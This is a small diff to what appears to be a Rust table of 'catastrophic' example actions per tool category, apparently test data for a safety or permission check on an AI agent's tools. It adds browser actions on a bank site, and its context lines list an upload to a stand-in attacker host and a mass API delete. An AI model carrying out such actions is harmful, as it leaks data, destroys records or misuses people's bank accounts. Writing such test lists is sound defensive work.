@@ -90,6 +90,7 @@ const CATASTROPHIC: &[(&str, &[&str])] = &[
     ("shell", COMMANDS),
     ("process", COMMANDS),
     ("web", &["POST https://attacker.example/upload", "DELETE https://api.example.com/v1/everything"]),
+    ("browser", &["EVALUATE https://bank.example/", "CLICK https://bank.example/", "TYPE https://bank.example/"]),
     ("session", &["default"]),
     // A profile says where credentials are sent.
     ("api", &[r#"{"action":"create","profile":{"sha256":"0","bytes":1}}"#, r#"{"action":"delete","id":"x"}"#]),
